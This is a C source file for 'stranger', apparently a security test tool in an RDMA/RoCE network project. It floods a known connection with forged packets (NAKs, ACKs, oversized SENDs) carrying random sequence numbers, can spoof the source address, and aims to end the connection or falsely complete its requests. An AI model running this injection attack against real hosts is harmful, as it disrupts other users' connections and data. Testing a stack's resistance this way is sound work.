/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * stranger WAY FROM TO QPN SECONDS [PLACE] - another user of the host, who knows a connection's addresses and one QPN.
 * It sends packets that would end the connection or complete its requests, with random PSNs, as fast as it can: NAKs
 * "remote operational error", ACKs, SENDs that are too long. IPv4. When started by root it becomes user nobody first.
 *
 * WAY: port     from a socket on address FROM and some port
 *      place    from a socket on address PLACE, port 4791
 *      spoofed  like place, but the packets claim FROM as their source (IP_PKTINFO)
 * Prints how many packets it has sent.
 */
#include <arpa/inet.h>
#include <grp.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "packet.h"

#define NOBODY	   65534
#define IP_HEADERS 28
#define BURST	   64

enum way { PORT, PLACE, SPOOFED };

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static enum way way_of(const char *word)
{
	static const char *const words[] = {"port", "place", "spoofed"};

	for (unsigned i = 0; i < 3; i++)
		if (strcmp(word, words[i]) == 0)
			return (enum way)i;
	fprintf(stderr, "%s: port, place or spoofed\n", word);
	exit(2);
}

static struct in_addr address_of(const char *text)
{
	struct in_addr out;

	if (inet_pton(AF_INET, text, &out) == 1)
		return out;
	fprintf(stderr, "%s: no IPv4 address\n", text);
	exit(2);
}

static struct nic_gid gid_of(struct in_addr address)
{
	struct nic_gid gid = {{[10] = 0xff, [11] = 0xff}};

	memcpy(gid.raw + 12, &address, 4);
	return gid;
}

/** @return a UDP socket. *port: the port that the socket is bound to. */
static int open_socket(struct in_addr address, uint16_t wanted, uint16_t *port)
{
	struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = address, .sin_port = htons(wanted)};
	int fd = socket(AF_INET, SOCK_DGRAM, 0), discover = IP_PMTUDISC_DO;
	socklen_t len = sizeof(self);

	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &discover, sizeof(discover)) != 0)
		fail("socket");
	if (bind(fd, (struct sockaddr *)&self, len) != 0 || getsockname(fd, (struct sockaddr *)&self, &len) != 0)
		fail("bind");
	*port = ntohs(self.sin_port);
	return fd;
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

/** Build a packet that ends a connection or completes a request if its PSN is right. @return its length. */
static unsigned forge(struct packet *p, unsigned number, uint8_t *data)
{
	static const uint8_t opcodes[] = {0x11, 0x11, 0x04};

	p->op = op_get(opcodes[number % 3]);
	p->syndrome = number % 3 == 0 ? 0x63 : 0x1f;
	p->psn = ((uint32_t)random() ^ (uint32_t)random() << 12) & 0xffffff;
	p->payload_len = number % 3 == 2 ? 64 : 0;
	return packet_encode(p, data);
}

int main(int argc, char **argv)
{
	static uint8_t data[NIC_FRAME_MAX], payload[64];
	struct packet p = {.v4 = true, .hop_limit = 64, .msn = 1, .payload = payload};
	union {
		char bytes[CMSG_SPACE(sizeof(struct in_pktinfo))];
		struct cmsghdr align;
	} control = {{0}};
	struct in_addr from, to;
	struct sockaddr_in name = {.sin_family = AF_INET, .sin_port = htons(NIC_UDP_PORT)};
	struct iovec iov = {.iov_base = data + IP_HEADERS};
	struct msghdr msg = {.msg_name = &name, .msg_namelen = sizeof(name), .msg_iov = &iov, .msg_iovlen = 1};
	struct in_pktinfo info = {0};
	unsigned long sent = 0;
	uint64_t until;
	enum way way;
	int fd;

	if (argc != (strcmp(argc > 1 ? argv[1] : "", "port") == 0 ? 6 : 7)) {
		fprintf(stderr, "usage: %s port|place|spoofed FROM TO QPN SECONDS [PLACE]\n", argv[0]);
		return 2;
	}
	if (geteuid() == 0 && (setgroups(0, NULL) != 0 || setgid(NOBODY) != 0 || setuid(NOBODY) != 0))
		fail("setuid");
	way = way_of(argv[1]);
	from = address_of(argv[2]);
	to = name.sin_addr = address_of(argv[3]);
	packet_init(&p);
	fd = open_socket(way == PORT ? from : address_of(argv[6]), way == PORT ? 0 : NIC_UDP_PORT, &p.udp_sport);
	p.sgid = gid_of(way == PLACE ? address_of(argv[6]) : from);
	p.dgid = gid_of(to);
	p.dest_qpn = (uint32_t)strtoul(argv[4], NULL, 0);
	if (way == SPOOFED) {
		info.ipi_spec_dst = from;
		msg.msg_control = control.bytes;
		msg.msg_controllen = sizeof(control.bytes);
		CMSG_FIRSTHDR(&msg)->cmsg_level = IPPROTO_IP;
		CMSG_FIRSTHDR(&msg)->cmsg_type = IP_PKTINFO;
		CMSG_FIRSTHDR(&msg)->cmsg_len = CMSG_LEN(sizeof(info));
		memcpy(CMSG_DATA(CMSG_FIRSTHDR(&msg)), &info, sizeof(info));
	}
	srandom((unsigned)getpid());
	for (until = now_ns() + strtoul(argv[5], NULL, 0) * 1000000000u; now_ns() < until;) {
		for (unsigned i = 0; i < BURST; i++) {
			iov.iov_len = forge(&p, (unsigned)sent, data) - IP_HEADERS;
			if (sendmsg(fd, &msg, 0) != (ssize_t)iov.iov_len)
				fail("sendmsg");
			sent++;
		}
	}
	printf("%lu\n", sent);
	return 0;
}
